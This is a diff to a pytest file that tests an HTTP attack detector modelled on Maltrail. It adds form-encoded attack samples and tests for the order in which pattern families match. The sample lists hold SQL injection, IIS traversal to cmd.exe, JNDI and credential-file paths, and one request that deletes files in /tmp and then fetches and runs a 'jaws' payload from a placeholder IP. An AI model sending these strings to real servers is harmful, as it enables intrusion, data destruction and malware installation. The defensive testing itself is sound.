@@ -16,10 +16,9 @@ import json
 import subprocess
 import tracemalloc
 from pathlib import Path
-from urllib.parse import unquote
 
 import pytest
-from hypothesis import given, settings, strategies as st
+from hypothesis import example, given, settings, strategies as st
 
 from engine import pcapgen as g
 from matchers import Artifact, TrailMatchers
@@ -29,6 +28,7 @@ from workers.batch import FrameBatchBuilder
 from workers.heuristics import HeuristicSettings
 from workers.heuristics import http as hhttp
 from workers.heuristics.window import DistinctWindow
+from workers.http import decoded_form, decoded_target
 from workers.pipeline import Worker
 
 CORPUS = Path(__file__).resolve().parent / "corpus"
@@ -151,7 +151,9 @@ def test_thresholds_and_windows_move(matchers):
 ATTACK_SAMPLES = {
     "potential sql injection": ["/i?id=1 union all select a,b from t", "/i?id=1 UNION SELECT 1", "/l?u=' or 'a'='a",
                                 "/i?id=sleep(5)", "/i?x=@@version", "/i?id=1;waitfor delay '0:0:5'",
-                                "/i?q=information_schema.tables", "/i?id=1 and 1=1"],
+                                "/i?q=information_schema.tables", "/i?id=1 and 1=1",
+                                # form-encoded: '+' is a space in the query
+                                "/i?id=1+union+select+1,2,3--", "/n?id=7+and+1%3D1%23", "/p?id=1'+or+'1'='1"],
     "potential xml injection": ["/x?q=/text()='x'"],
     "potential php injection": ["/i?c=<?php echo 1;", "/i?f=php://input"],
     "potential ldap injection": ["/l?u=*)(|(uid=*"],
@@ -162,7 +164,10 @@ ATTACK_SAMPLES = {
     "config file access": ["/.htaccess", "/wp-config.php", "/.env", "/.git/config", "/.aws/credentials"],
     "potential remote code execution": ["/c?x=;cat /etc/passwd", "/c?x=${jndi:ldap://a/b}", "/c?x=cmd.exe /c dir",
                                         "/c?x=wget http:/1.2.3.4/a", "/c?x=() { :; }; id", "/c?x=a|id",
-                                        "/c?x=$_GET[a]", "/c?x=chmod 777 f", "/c?x=a>/dev/null"],
+                                        "/c?x=$_GET[a]", "/c?x=chmod 777 f", "/c?x=a>/dev/null",
+                                        "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir", "/c/winnt/system32/cmd.exe",
+                                        "/t.cgi?cmd=cat+/etc/passwd", "/x?cmd=ls+/", "/x?ip=ping+-c+3+h",
+                                        "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws"],
     "potential directory traversal": ["/d?f=../../../etc/x", "/d?f=/etc/shadow", "/d?f=..\\..\\..\\boot.ini",
                                       "/d?f=c:/windows/system32/x"],
     "potential web shell": ["/up/c99.php", "/x/shell.aspx?cmd=whoami"],
@@ -174,22 +179,66 @@ ATTACK_SAMPLES = {
 @pytest.mark.parametrize("family", sorted(ATTACK_SAMPLES))
 def test_every_pattern_family_fires_and_passes_the_prefilter(family):
     for sample in ATTACK_SAMPLES[family]:
-        assert hhttp.request_attack(sample) == family, sample
+        assert hhttp.request_attack(*decoded_target(sample)) == family, sample
         assert hhttp.needs_request_check(sample, None), sample
+        # the same text as a form body: '+' is a space there too
+        body = sample.split("?", 1)[-1]
+        if hhttp.request_attack(*decoded_form(body)):
+            assert hhttp.needs_request_check("/", body), body
+
+
+# Maltrail's SUSPICIOUS_HTTP_REQUEST_REGEXES, in its order (core/settings.py; "potential ssti
+# injection" is Maltrail's, "potential web shell" ours): a request several families match takes the
+# label of the first.
+MALTRAIL_ORDER = ("potential sql injection", "potential xml injection", "potential php injection",
+                  "potential ldap injection", "potential xss injection", "potential xxe injection",
+                  "potential ssti injection", "potential data leakage", "config file access",
+                  "potential remote code execution", "potential directory traversal", "potential web scan",
+                  "potential dns changer")
+
+
+def test_the_families_are_tried_in_maltrails_order():
+    ours = [desc for desc, _ in hhttp.REQUEST_PATTERNS if desc != "potential web shell"]
+    assert ours == [desc for desc in MALTRAIL_ORDER if desc != "potential ssti injection"]
+
+
+@pytest.mark.parametrize("target, label", [
+    # the IIS traversal worms: a traversal that runs cmd.exe is a command first (Maltrail says so)
+    ("/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir", "potential remote code execution"),
+    ("/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir", "potential remote code execution"),
+    ("/cgi-bin/test.cgi?cmd=cat+/etc/passwd", "potential remote code execution"),
+    ("/x?a=;cat+/etc/passwd", "potential remote code execution"),
+    ("/a?file=/etc/passwd&x=1+union+select+2", "potential sql injection"),
+    ("/s?q=%3Cscript%3Ealert(1)%3C/script%3E&file=../../../etc/passwd", "potential xss injection"),
+    ("/w?f=../../../../wp-config.php", "config file access"),
+    # Maltrail says "potential ssti injection" (its ${...} pattern comes first); a JNDI lookup runs
+    # code, so ours is remote code execution (COMPATIBILITY.md)
+    ("/hudson?x=${jndi:ldap://198.51.100.1/a}&f=../../../etc/passwd", "potential remote code execution"),
+])
+def test_a_request_several_families_match_gets_the_first_familys_label(target, label):
+    texts = decoded_target(target)
+    matching = [desc for desc, pattern in hhttp._REQUEST if any(pattern.search(t) for t in texts)]
+    assert len(matching) > 1 and matching[0] == label, matching
+    assert hhttp.request_attack(*texts) == label
 
 
 _ALPHABET = st.sampled_from(list("abcdefghijklmnopqrstuvwxyz0123456789/?=&.%;|`$'\"<>(){}[]*:!@#\\ \t\r\n-_+,")
                             + ["select", "union", " from ", "../", "etc/passwd", "<script", "alert(", "cmd", "wget ",
-                               "%2e", "%20", "%27", "%3c", "php", "jndi", "system32", ".ht", "sleep(", "or 1=1"])
+                               "%2e", "%20", "%27", "%3c", "php", "jndi", "system32", ".ht", "sleep(", "or 1=1",
+                               "+union+select+", "and+1%3d1", "cmd.exe?/c+", "cat+/"])
 
 
 @settings(max_examples=400, deadline=None)
 @given(st.lists(_ALPHABET, max_size=30).map("".join))
+@example("/i?id=1+union+select+1,2")
+@example("/n?id=7+and+1%3D1%23")
 def test_the_request_prefilter_is_a_superset_of_the_patterns(text):
-    decoded = unquote(text)
-    hit = any(p.search(decoded) for _, p in hhttp._REQUEST)
-    if hit:
+    # every reading the pipeline judges: the path (its query form-decoded too) and the same text as
+    # a body (form-decoded throughout)
+    if any(p.search(t) for t in decoded_target(text) for _, p in hhttp._REQUEST):
         assert hhttp.needs_request_check(text, None)
+    if any(p.search(t) for t in decoded_form(text) for _, p in hhttp._REQUEST):
+        assert hhttp.needs_request_check("/", text)
 
 
 @settings(max_examples=300, deadline=None)
